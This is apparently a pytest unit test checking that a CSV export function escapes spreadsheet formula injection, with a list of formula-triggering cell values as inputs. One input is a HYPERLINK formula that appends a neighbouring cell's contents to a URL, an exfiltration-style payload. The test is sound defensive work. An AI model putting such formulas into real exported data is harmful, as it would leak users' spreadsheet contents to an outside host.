"""Comma-separated values: what a spreadsheet would calculate is text to it."""

import csv
import io

import pytest

from tools.cli.output import only_printable
from tools.spark.sparkcommands import print_csv


def test_no_cell_is_a_formula(capsys: pytest.CaptureFixture[str]) -> None:
    names = ['=HYPERLINK("http://example.org/?"&A1)', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "plain", "a=b", ""]
    with only_printable():
        print_csv([{"=name": name, "octets": number - 3} for number, name in enumerate(names)], ["=name", "octets"])
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert rows[0] == ["'=name", "octets"]
    assert [row[0] for row in rows[1:]] == [*(f"'{name}" for name in names[:5]), "'\\r=1", *names[6:]]
    assert [row[1] for row in rows[1:4]] == ["-3", "-2", "-1"]      # figures are figures
